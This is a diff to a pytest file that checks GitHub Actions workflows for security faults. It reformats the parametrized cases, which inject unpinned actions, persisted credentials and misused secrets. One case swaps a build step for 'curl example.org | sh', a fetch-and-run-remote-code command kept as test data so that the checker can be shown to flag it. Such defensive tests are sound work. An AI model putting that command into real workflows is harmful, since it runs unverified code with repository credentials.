@@ -11,6 +11,7 @@ from pathlib import Path
 
 import faults
 import pytest
+import yaml
 from documents import ROOT, Workflow, actions, steps, texts, workflows
 from language import Language
 
@@ -84,7 +85,12 @@ def test_the_action_has_no_fault(name: str, check: Check) -> None:
 @pytest.mark.parametrize(
     ("name", "check", "old", "new"),
     [
-        ("check", "unpinned", "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "actions/checkout@v7"),
+        (
+            "check",
+            "unpinned",
+            "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
+            "actions/checkout@v7",
+        ),
         ("check", "unpinned", " # v7.0.1", ""),
         ("measure-pull-request", "unpinned", "workflows/measure.yml@main", "workflows/report.yml@main"),
         ("measure-pull-request", "unknown references", "steps.plan.outputs.gpus", "steps.plans.outputs.gpus"),
@@ -101,11 +107,16 @@ def test_the_action_has_no_fault(name: str, check: Check) -> None:
         ("build", "left credentials", "persist-credentials: false", "persist-credentials: true"),
         ("check", "wrong concurrency", "  cancel-in-progress:", "  queue: max\n  cancel-in-progress:"),
         ("report", "secrets", "${{ github.token }}", "${{ secrets.TOKEN }}"),
-        ("check", "caches", "          persist-credentials: false", "          persist-credentials: false\n          cache: pip"),
+        (
+            "check",
+            "caches",
+            "          persist-credentials: false",
+            "          persist-credentials: false\n          cache: pip",
+        ),
         ("build", "no verbs", 'kernelgate build --ref "$SHA" --output ../out/base', "curl example.org | sh"),
         ("build", "no verbs", "kernelgate build --ref", "kernelgate build --reference"),
     ],
-)  # fmt: skip
+)
 def test_each_fault_is_seen(name: str, check: str, old: str, new: str) -> None:
     workflow = WORKFLOWS[name]
     assert old in workflow.text
@@ -231,10 +242,13 @@ def event(name: str, head: str | None = None) -> dict[str, object]:
         (event("pull_request_review", "stranger/r"), "kernelgate-forks"),
         (event("pull_request_review_comment", "stranger/r"), "kernelgate-forks"),
         # The fork was deleted in the meantime.
-        ({"event_name": "pull_request", "repository": "o/r", "event": {"pull_request": {"head": {"repo": None}}}}, "kernelgate-forks"),
+        (
+            {"event_name": "pull_request", "repository": "o/r", "event": {"pull_request": {"head": {"repo": None}}}},
+            "kernelgate-forks",
+        ),
         (event("something_new"), "kernelgate-forks"),
     ],
-)  # fmt: skip
+)
 def test_a_forks_run_waits_for_approval(github: dict[str, object], environment: str, language: Language) -> None:
     gate = WORKFLOWS["measure"].jobs["measure"]["environment"]
     assert language.expanded(gate["name"], {"github": github}) == environment
@@ -247,7 +261,7 @@ def test_a_newer_push_cancels_the_older_run_of_its_pull_request(name: str, langu
     assert group["cancel-in-progress"] is True
 
 
-@pytest.mark.parametrize("name", [name for name, each in WORKFLOWS.items() if {"push", "schedule"} & set(each.triggers)])
+@pytest.mark.parametrize("name", [name for name, each in WORKFLOWS.items() if "push" in each.triggers])
 def test_nothing_is_cancelled_on_the_default_branch(name: str, language: Language) -> None:
     contexts = {"github": {**event("push"), "sha": "a" * 40, "run_id": "1"}}
     group = language.expanded(WORKFLOWS[name].content["concurrency"], contexts)
@@ -266,7 +280,8 @@ def test_one_job_stands_for_all_checks(language: Language) -> None:
 
 
 def test_report_follows_the_workflow_that_measures() -> None:
-    assert WORKFLOWS["report"].triggers["workflow_run"]["workflows"] == [WORKFLOWS["measure-pull-request"].content["name"]]
+    followed = WORKFLOWS["report"].triggers["workflow_run"]["workflows"]
+    assert followed == [WORKFLOWS["measure-pull-request"].content["name"]]
 
 
 @pytest.mark.parametrize("name", ["measure-pull-request", "report", "profile", "answer-command", "refresh-baseline"])
@@ -275,7 +290,6 @@ def test_another_repository_can_call_it(name: str) -> None:
 
 
 def test_dependabot_waits_before_it_offers_a_version() -> None:
-    import yaml
 
     updates = yaml.safe_load((ROOT / ".github/dependabot.yml").read_text())["updates"]
     assert {each["package-ecosystem"] for each in updates} == {"github-actions", "pip", "npm"}
